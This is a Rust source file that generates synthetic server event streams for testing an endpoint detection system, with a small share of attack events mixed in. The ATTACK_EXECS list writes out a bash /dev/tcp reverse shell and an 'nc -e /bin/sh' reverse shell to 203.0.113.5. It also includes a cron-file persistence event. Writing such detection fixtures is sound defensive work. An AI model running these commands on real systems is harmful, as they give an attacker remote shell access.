//! Synthetic but realistic event streams: what a busy Linux server emits,
//! with a small share of attacks so detections actually fire.

use edr_event::*;

/// Which events to generate.
#[derive(Clone, Copy)]
pub enum Mix {
    /// Process execs only.
    ExecOnly,
    /// 55% exec, 15% exit, 20% file, 10% network.
    Realistic,
}

/// Deterministic xorshift, so every run sees the same stream.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const BASH: &str = "/usr/bin/bash";
const SSHD: &str = "/usr/sbin/sshd";
const SYSTEMD: &str = "/usr/lib/systemd/systemd";

/// (exe, argv, parent exe, parent argv, further ancestors)
type ExecTemplate = (&'static str, &'static [&'static str], &'static str, &'static [&'static str], &'static [&'static str]);

const BENIGN_EXECS: &[ExecTemplate] = &[
    ("/usr/bin/ls", &["ls", "-la", "/var/log"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
    ("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
    ("/usr/bin/git", &["git", "status", "--short"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
    (
        "/usr/bin/python3.11",
        &["python3", "/opt/app/manage.py", "runjobs", "--queue", "default"],
        "/usr/bin/supervisord",
        &["/usr/bin/python3", "/usr/bin/supervisord"],
        &[SYSTEMD],
    ),
    ("/usr/sbin/cron", &["/usr/sbin/CRON", "-f"], "/usr/sbin/cron", &["/usr/sbin/cron", "-f"], &[SYSTEMD]),
    (
        "/bin/sh",
        &["/bin/sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"],
        "/usr/sbin/cron",
        &["/usr/sbin/CRON", "-f"],
        &["/usr/sbin/cron", SYSTEMD],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-fsS", "--max-time", "5", "https://api.internal.example/health"],
        "/bin/sh",
        &["/bin/sh", "-c", "/opt/monitor/check.sh"],
        &["/usr/sbin/cron", SYSTEMD],
    ),
    ("/usr/bin/ssh", &["ssh", "-o", "BatchMode=yes", "deploy@10.0.0.4", "uptime"], BASH, &["-bash"], &[SSHD, SSHD, SYSTEMD]),
    ("/usr/bin/cat", &["cat", "/etc/os-release"], BASH, &["bash", "/usr/local/bin/inventory.sh"], &[SYSTEMD]),
    ("/usr/bin/awk", &["awk", "-F:", "{print $1}", "/etc/passwd"], BASH, &["bash", "/usr/local/bin/inventory.sh"], &[SYSTEMD]),
    (
        "/usr/bin/find",
        &["find", "/var/log", "-name", "*.gz", "-mtime", "+30", "-delete"],
        "/bin/sh",
        &["/bin/sh", "-c", "logclean"],
        &["/usr/sbin/cron", SYSTEMD],
    ),
    ("/usr/bin/dpkg", &["dpkg", "--status", "openssl"], "/usr/bin/apt-get", &["apt-get", "-s", "upgrade"], &["/usr/bin/unattended-upgrade", SYSTEMD]),
    ("/usr/sbin/nginx", &["nginx", "-t"], "/usr/bin/bash", &["-bash"], &[SSHD, SSHD, SYSTEMD]),
    ("/usr/bin/node", &["node", "/srv/api/server.js"], SYSTEMD, &["/sbin/init"], &[]),
];

const ATTACK_EXECS: &[ExecTemplate] = &[
    (
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
        "/usr/sbin/nginx",
        &["nginx: worker process"],
        &["/usr/sbin/nginx", SYSTEMD],
    ),
    ("/tmp/x", &["/tmp/x"], BASH, &["bash"], &[SSHD, SYSTEMD]),
    ("/bin/sh", &["sh", "-c", "id; uname -a"], "/usr/sbin/php-fpm8.2", &["php-fpm: pool www"], &[SYSTEMD]),
    ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.5", "9001"], BASH, &["bash"], &[SYSTEMD]),
];

fn exec(rng: &mut Rng, id: u64, t: &ExecTemplate) -> EventBody {
    let (exe, argv, parent, pargv, more) = *t;
    let pid = 1000 + rng.below(60_000) as u32;
    let mut ancestry = vec![parent.to_string()];
    ancestry.extend(more.iter().map(|s| s.to_string()));
    EventBody::ProcessExec(ProcessExec {
        pid,
        ppid: pid - 1,
        entity_id: id.wrapping_mul(0x9e37_79b9_7f4a_7c15),
        parent_entity_id: (id - 1).wrapping_mul(0x9e37_79b9_7f4a_7c15),
        exe: exe.into(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        cwd: "/home/deploy".into(),
        uid: 1000,
        user: "deploy".into(),
        start_time: 1_780_000_000_000_000_000 + id * 1000,
        parent_exe: parent.into(),
        parent_argv: pargv.iter().map(|s| s.to_string()).collect(),
        ancestry,
        ..Default::default()
    })
}

fn file(rng: &mut Rng) -> EventBody {
    const FILES: &[(FileOp, &str, &str)] = &[
        (FileOp::Modify, "/var/log/syslog", "/usr/sbin/rsyslogd"),
        (FileOp::Create, "/tmp/tmp.k2Jd8s", "/usr/bin/mktemp"),
        (FileOp::Modify, "/home/deploy/.bash_history", BASH),
        (FileOp::Modify, "/etc/hosts", "/usr/bin/vim.basic"),
        (FileOp::Delete, "/var/tmp/cache-93", "/usr/bin/rm"),
        (FileOp::Create, "/var/lib/app/session-77", "/usr/bin/node"),
    ];
    const ATTACK: (FileOp, &str, &str) = (FileOp::Create, "/etc/cron.d/sysupdate", "/usr/bin/curl");
    let (op, path, exe) = if rng.below(100) < 2 { ATTACK } else { FILES[rng.below(FILES.len())] };
    EventBody::File(FileEvent {
        op,
        path: path.into(),
        old_path: None,
        mode: Some(0o100644),
        pid: Some(2000),
        entity_id: Some(7),
        exe: Some(exe.into()),
        uid: Some(0),
    })
}

fn network(rng: &mut Rng) -> EventBody {
    let (op, exe, remote, port) = match rng.below(10) {
        0 => (NetworkOp::Connect, BASH, "203.0.113.5", 4444),
        1..=5 => (NetworkOp::Connect, "/usr/bin/curl", "93.184.216.34", 443),
        6..=8 => (NetworkOp::Accept, SSHD, "198.51.100.23", 51022),
        _ => (NetworkOp::Listen, "/usr/bin/node", "", 0),
    };
    EventBody::Network(NetworkEvent {
        op,
        transport: Transport::Tcp,
        local_ip: "10.0.0.5".into(),
        local_port: if op == NetworkOp::Connect { 40_000 + rng.below(20_000) as u16 } else { 22 },
        remote_ip: remote.into(),
        remote_port: port,
        pid: Some(3000),
        entity_id: Some(9),
        exe: Some(exe.into()),
        uid: Some(1000),
        netns: None,
        bytes_sent: None,
        bytes_received: None,
    })
}

/// `count` batches of `size` events.
pub fn batches(mix: Mix, count: usize, size: usize) -> Vec<Vec<Event>> {
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    let mut id = 1u64;
    (0..count)
        .map(|_| {
            (0..size)
                .map(|_| {
                    id += 1;
                    let roll = rng.below(100);
                    let body = match mix {
                        Mix::ExecOnly => exec_body(&mut rng, id),
                        Mix::Realistic if roll < 55 => exec_body(&mut rng, id),
                        Mix::Realistic if roll < 70 => {
                            EventBody::ProcessExit(ProcessExit { pid: 1000 + rng.below(60_000) as u32, entity_id: id, exit_code: 0 })
                        }
                        Mix::Realistic if roll < 90 => file(&mut rng),
                        Mix::Realistic => network(&mut rng),
                    };
                    Event { id, time: 1_780_000_000_000_000_000 + id, partial: false, body }
                })
                .collect()
        })
        .collect()
}

fn exec_body(rng: &mut Rng, id: u64) -> EventBody {
    if rng.below(100) < 2 {
        let t = &ATTACK_EXECS[rng.below(ATTACK_EXECS.len())];
        exec(rng, id, t)
    } else {
        let t = &BENIGN_EXECS[rng.below(BENIGN_EXECS.len())];
        exec(rng, id, t)
    }
}
